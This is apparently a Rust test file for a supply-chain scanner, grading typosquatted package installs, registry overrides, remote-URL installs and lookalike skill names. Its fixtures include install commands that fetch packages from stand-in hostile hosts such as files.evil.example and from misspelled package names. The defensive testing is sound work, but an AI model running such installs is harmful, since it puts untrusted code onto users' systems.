//! The family's findings on whole bodies, through the standard scanner.

use crate::scan::testutil::{assert_absent, assert_hit, assert_not_flagged, assert_severity};
use crate::scan::{Category::SupplyChain, Severity::*};

#[test]
fn a_typosquat_install_is_high_and_the_popular_name_is_nothing() {
    assert_hit("# Setup\n```bash\npip install reqeusts\n```\n", "supply.typosquat", SupplyChain, High, 3);
    assert_hit("Run `npm i --save lodahs@4` first.\n", "supply.typosquat", SupplyChain, High, 1);
    assert_absent("pip install requests\nnpm i lodash\ncargo install ripgrep\n", "supply.typosquat");
    // Distance 3 from everything popular.
    assert_absent("pip install rxqwxsts\n", "supply.typosquat");
}

#[test]
fn two_edits_and_affixes_are_medium() {
    assert_severity("pip install beatifulsop4\n", "supply.typosquat", Medium);
    assert_severity("pip install python-requests\n", "supply.typosquat", Medium);
}

#[test]
fn a_warning_against_a_typosquat_is_low() {
    assert_severity(
        "Never `pip install reqeusts`: it is a typosquat of requests.\n",
        "supply.typosquat",
        Low,
    );
}

#[test]
fn typosquats_in_dependency_lists_are_found() {
    let body = "Create `requirements.txt`:\n\n```text\nflask==3.0\ncolourama>=0.4\n```\n";
    assert_hit(body, "supply.typosquat", SupplyChain, High, 5);
    let body = "```json\n{\n  \"dependencies\": {\n    \"expres\": \"^4.18.0\"\n  }\n}\n```\n";
    assert_hit(body, "supply.typosquat", SupplyChain, High, 4);
}

#[test]
fn index_overrides_are_graded_by_host() {
    assert_not_flagged("pip install -i https://pypi.org/simple requests\n");
    assert_absent("pip install -i https://pypi.org/simple requests\n", "supply.index-override");
    assert_hit(
        "pip install --index-url https://pkgs.evil.example/simple acme-utils\n",
        "supply.index-override",
        SupplyChain,
        High,
        1,
    );
    // An organisation's own index: reported, not refused.
    assert_severity(
        "export PIP_INDEX_URL=\"https://__token__:${T}@pypi.internal.example/simple/\"\n",
        "supply.index-override",
        Medium,
    );
    assert_severity(
        "pip install torch --extra-index-url https://download.pytorch.org/whl/cu121\n",
        "supply.index-override",
        Low,
    );
    assert_hit(
        "```\nnpm config set registry http://203.0.113.5:4873/\n```\n",
        "supply.index-override",
        SupplyChain,
        High,
        2,
    );
}

#[test]
fn installs_from_urls_are_graded_by_host() {
    assert_hit(
        "pip install https://files.evil.example/pkg-1.0.tar.gz\n",
        "supply.remote-install",
        SupplyChain,
        High,
        1,
    );
    assert_severity(
        "pip install https://github.com/acme/tool/archive/refs/tags/v1.2.tar.gz\n",
        "supply.remote-install",
        Medium,
    );
    assert_absent("pip install git+https://github.com/openai/CLIP.git\n", "supply.remote-install");
    assert_severity("pip install git+https://git.evil.example/a/b.git\n", "supply.remote-install", High);
    assert_severity(
        "cargo install --git https://git.evil.example/t.git tool\n",
        "supply.remote-install",
        High,
    );
    assert_severity("go install go.evil.example/cmd/tool@latest\n", "supply.remote-install", Medium);
    assert_absent("go install golang.org/x/tools/gopls@latest\n", "supply.remote-install");
}

#[test]
fn a_skill_named_like_a_well_known_one_is_medium() {
    let body = "---\nname: skill-creater\ndescription: x\n---\n# x\n";
    assert_hit(body, "supply.skill-name-lookalike", SupplyChain, Medium, 2);
    assert_absent("---\nname: skill-creator\ndescription: x\n---\n", "supply.skill-name-lookalike");
    // A `name:` below the frontmatter is not the skill's name.
    assert_absent(
        "---\nname: notes\n---\n```yaml\nname: skill-creater\n```\n",
        "supply.skill-name-lookalike",
    );
}

#[test]
fn prose_about_installing_is_not_a_finding() {
    assert_not_flagged(
        "Use pip install the usual way; `pip install` reads requirements from the index.\nThe npm registry hosts packages.\n",
    );
}

#[test]
fn finds_whole_words_and_word_starts() {
    use super::has_word;
    assert!(has_word("Run `pip3.11 install x`", &["pip3"], false));
    assert!(!has_word("see google.com", &["go"], false));
    assert!(has_word("Download it", &["download"], false));
    assert!(has_word("retrieving x", &["retriev"], true));
    assert!(!has_word("retrieving x", &["retriev"], false));
    assert!(!has_word("", &["x"], true));
}
